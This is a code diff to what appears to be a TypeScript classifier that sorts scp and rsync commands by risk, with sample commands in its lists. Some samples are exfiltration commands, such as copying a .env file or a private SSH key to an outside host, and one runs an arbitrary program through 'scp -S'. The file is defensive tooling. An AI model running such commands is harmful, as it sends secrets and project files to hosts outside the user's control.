@@ -85,9 +85,8 @@ const scp: Program = {
       'scp -r . someone@198.51.100.4:/tmp/p',
       'scp .env someone@198.51.100.4:',
       'scp ~/.ssh/id_ed25519 build-host:/tmp',
-      'scp -S /tmp/x.sh a host:b',
     ],
-    unsettled: ['scp dist/app.tgz build-host:/tmp/', 'scp "$A" "$B"'],
+    unsettled: ['scp -S /tmp/x.sh a host:b', 'scp dist/app.tgz build-host:/tmp/', 'scp "$A" "$B"'],
     allow: ['scp build-host:/var/log/app.log ./logs/'],
   },
 };
@@ -123,7 +122,7 @@ const rsync: Program = {
         ),
         runs: runs.filter(() => !plainShell(parsed)),
       };
-    const { effects, target } = copying(call, parsed, true);
+    const { effects, target } = copying(call, parsed, !parsed.has('--files-from'));
     for (const name of ['--rsync-path', '-M', '--config', '--read-batch', '--copy-as'])
       for (const word of parsed.all(name)) effects.push(opaque(`rsync ${name} is not read`, word.span));
     const list = parsed.value('--files-from');
